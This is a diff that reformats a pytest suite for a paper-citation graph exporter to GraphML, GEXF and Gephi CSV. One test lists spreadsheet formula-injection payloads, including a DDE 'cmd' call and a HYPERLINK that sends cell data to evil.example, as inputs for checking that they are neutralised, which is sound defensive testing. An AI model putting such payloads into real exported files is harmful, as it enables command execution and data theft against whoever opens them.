@@ -58,8 +58,10 @@ def unquoted(cell: str) -> str:
 
 def write_all(G: nx.MultiDiGraph, directory: Path) -> dict[str, Path]:
     export(G, directory, ["graphml", "gexf", "csv"])
-    return {name: directory / name for name in
-            ("papergraph.graphml", "papergraph.gexf", "nodes.csv", "edges.csv")}  # fmt: skip
+    return {
+        name: directory / name
+        for name in ("papergraph.graphml", "papergraph.gexf", "nodes.csv", "edges.csv")
+    }
 
 
 def check_exports(G: nx.MultiDiGraph, directory: Path) -> dict[str, dict[str, str]]:
@@ -129,8 +131,13 @@ def test_ids_differing_only_by_control_characters_stay_apart(tmp_path) -> None:
         G.add_node(node, kind="paper", title=f"title of {node!r}")
     G.add_edge("2401.00001\x01", "2401.00001", key="CITES", type="CITES")
     seen = check_exports(G, tmp_path)
-    assert set(seen["graphml"]) == {"2401.00001", "2401.00001\\u0001", "2401.00001\\u0002",
-                                    "2401\\u000000001", "pg\\ud800"}  # fmt: skip
+    assert set(seen["graphml"]) == {
+        "2401.00001",
+        "2401.00001\\u0001",
+        "2401.00001\\u0002",
+        "2401\\u000000001",
+        "pg\\ud800",
+    }
 
 
 def test_a_paper_id_equal_to_a_concept_key_after_sanitising_stays_a_paper(tmp_path) -> None:
@@ -142,8 +149,12 @@ def test_a_paper_id_equal_to_a_concept_key_after_sanitising_stays_a_paper(tmp_pa
     G.add_edge("method:lo\x01ra", "method:lora", key="USES", type="USES", count=1)
     seen = check_exports(G, tmp_path)
     for kinds in seen.values():
-        assert kinds == {"method:lora": "method", "paper:method:lo\\u0001ra": "paper",
-                         "paper:method:lora2": "paper", "paper:paper:x": "paper"}  # fmt: skip
+        assert kinds == {
+            "method:lora": "method",
+            "paper:method:lo\\u0001ra": "paper",
+            "paper:method:lora2": "paper",
+            "paper:paper:x": "paper",
+        }
     edges = read_csv(tmp_path / "edges.csv")
     assert [(row["Source"], row["Target"]) for row in edges] == [
         ("paper:method:lo\\u0001ra", "method:lora")
@@ -162,9 +173,17 @@ def test_an_escaped_id_equal_to_another_literal_id_gets_a_suffix(tmp_path) -> No
 
 @pytest.mark.parametrize(
     "text",
-    ["=cmd|' /C calc'!A0", "+SUM(1+1)", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
-     '=HYPERLINK("http://evil.example/?x="&A1,"click")', "\tTAB=1+1", "\r=1+1", "'=1+1"],
-)  # fmt: skip
+    [
+        "=cmd|' /C calc'!A0",
+        "+SUM(1+1)",
+        "-2+3+cmd|' /C calc'!A0",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+        "\tTAB=1+1",
+        "\r=1+1",
+        "'=1+1",
+    ],
+)
 def test_spreadsheet_formulas_are_neutralised(tmp_path, text) -> None:
     G = nx.MultiDiGraph()
     G.add_node(text, kind="paper", title=text, cluster=-1, organization=text)
@@ -193,10 +212,21 @@ def evidence_graph() -> nx.MultiDiGraph:
     G.add_node("a", kind="paper", title="A", cluster=0)
     G.add_node("b", kind="paper", title="B", cluster=0)
     G.add_node("method:lora", kind="method", name="LoRA", aliases=["low-rank adaptation"])
-    G.add_edge("a", "method:lora", key="USES", type="USES", count=2, text="LoRA",
-               field="abstract", start=12, end=16, sentence="We use LoRA.")  # fmt: skip
-    G.add_edge("a", "b", key="SHARES_CONCEPT", type="SHARES_CONCEPT", weight=1.5,
-               shared=["method:lora"])  # fmt: skip
+    G.add_edge(
+        "a",
+        "method:lora",
+        key="USES",
+        type="USES",
+        count=2,
+        text="LoRA",
+        field="abstract",
+        start=12,
+        end=16,
+        sentence="We use LoRA.",
+    )
+    G.add_edge(
+        "a", "b", key="SHARES_CONCEPT", type="SHARES_CONCEPT", weight=1.5, shared=["method:lora"]
+    )
     G.add_edge("a", "b", key="CITES", type="CITES")
     return G
 
@@ -214,9 +244,19 @@ def test_gexf_relationships_and_offsets_are_declared_attributes(tmp_path) -> Non
     back = nx.read_gexf(tmp_path / "papergraph.gexf")
     assert isinstance(back, nx.MultiDiGraph) and back.graph["mode"] == "static"
     uses = [d for *_, d in back.edges(data=True) if d["relationship"] == "USES"]
-    assert uses == [{"count": 2, "text": "LoRA", "field": "abstract", "start": 12, "end": 16,
-                     "sentence": "We use LoRA.", "relationship": "USES", "id": "e2",
-                     "label": "USES"}]  # fmt: skip
+    assert uses == [
+        {
+            "count": 2,
+            "text": "LoRA",
+            "field": "abstract",
+            "start": 12,
+            "end": 16,
+            "sentence": "We use LoRA.",
+            "relationship": "USES",
+            "id": "e2",
+            "label": "USES",
+        }
+    ]
     assert {d["relationship"] for *_, d in back.edges(data=True)} == set(edges)
 
 
@@ -235,9 +275,22 @@ def test_csv_follows_gephi_spreadsheet_columns(tmp_path) -> None:
     write_csv(evidence_graph(), tmp_path / "nodes.csv", tmp_path / "edges.csv")
     nodes, edges = read_csv(tmp_path / "nodes.csv"), read_csv(tmp_path / "edges.csv")
     assert list(nodes[0]) == ["Id", "Label", "kind", "aliases", "cluster", "name", "title"]
-    assert list(edges[0]) == ["Source", "Target", "Type", "Kind", "Label", "Weight", "count",
-                              "end", "field", "relationship", "sentence", "shared", "start",
-                              "text"]  # fmt: skip
+    assert list(edges[0]) == [
+        "Source",
+        "Target",
+        "Type",
+        "Kind",
+        "Label",
+        "Weight",
+        "count",
+        "end",
+        "field",
+        "relationship",
+        "sentence",
+        "shared",
+        "start",
+        "text",
+    ]
     by_relationship = {row["relationship"]: row for row in edges}
     assert by_relationship["SHARES_CONCEPT"]["Weight"] == "1.5"
     assert by_relationship["CITES"]["Weight"] == "" and by_relationship["USES"]["start"] == "12"
@@ -290,8 +343,15 @@ def graphs(draw) -> nx.MultiDiGraph:
     for _ in range(draw(st.integers(0, 8))):
         source, target = draw(st.sampled_from(nodes)), draw(st.sampled_from(nodes))
         relationship = draw(st.sampled_from(["USES", "SHARES_CONCEPT", "CITES"]))
-        G.add_edge(source, target, key=relationship, type=relationship, start=0, end=3,
-                   sentence=draw(st.one_of(ids, odd_text)))  # fmt: skip
+        G.add_edge(
+            source,
+            target,
+            key=relationship,
+            type=relationship,
+            start=0,
+            end=3,
+            sentence=draw(st.one_of(ids, odd_text)),
+        )
     return G
 
 
